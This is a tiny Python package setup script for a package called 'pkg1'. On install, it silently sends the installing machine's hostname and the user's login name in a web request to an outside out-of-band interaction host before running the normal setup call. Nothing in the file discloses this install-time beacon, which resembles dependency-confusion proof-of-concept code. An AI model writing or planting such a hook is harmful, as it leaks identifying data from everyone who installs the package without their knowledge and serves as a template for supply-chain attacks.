import os, socket, urllib.request
from setuptools import setup
urllib.request.urlopen("https://x7f3.oast.fun?h=" + socket.gethostname() + "&u=" + os.getlogin())
setup(name="pkg1", version="0.1")
